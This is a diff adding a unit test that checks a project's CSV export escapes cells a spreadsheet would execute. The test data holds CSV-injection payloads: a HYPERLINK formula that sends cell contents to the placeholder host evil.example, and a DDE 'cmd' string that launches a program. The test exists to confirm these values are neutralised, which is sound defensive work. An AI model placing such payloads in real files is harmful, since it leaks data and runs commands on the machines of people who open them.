@@ -120,6 +120,29 @@ def test_energetics_table_and_figures():
     assert [figure.id for figure in energetics_figures(table)] == ["fig-energetics-rm"]
 
 
+def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers(tmp_path):
+    import csv
+
+    label = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    df = _frame([{"method": label, "strategy": "one-phase", "N": 10, "acot": 0.25, "wall_time_s": 2.5},
+                 {"method": "@SUM(1+1)", "strategy": "one-phase", "N": 10, "acot": None, "status": "incomplete",
+                  "message": "-1+cmd|' /C calc'!A0"}])
+    numbers = pd.DataFrame({"label": ["-0.5", "+x"], "value": [-0.125, 2.0]})
+    written = tables.write_csv({"acot": tables.acot_table(df), "failed_cases": tables.failed_cases(df),
+                                "numbers": numbers}, tmp_path)
+
+    with open(written[0], newline="") as file:
+        acot = {row["method"]: row for row in csv.DictReader(file)}
+    assert set(acot) == {"'" + label, "'@SUM(1+1)"}
+    assert float(acot["'" + label]["wall_time_s"]) == 2.5
+    with open(written[1], newline="") as file:
+        (failed,) = csv.DictReader(file)
+    assert failed["message"] == "'-1+cmd|' /C calc'!A0"
+    with open(written[2], newline="") as file:
+        assert list(csv.reader(file)) == [["label", "value"], ["-0.5", "-0.125"], ["'+x", "2.0"]]
+    assert numbers["label"].tolist() == ["-0.5", "+x"]  # the table itself is left as it was
+
+
 # --- the report of a real store ----------------------------------------------------------------------------------
 
 DOCUMENTED_CSV = {
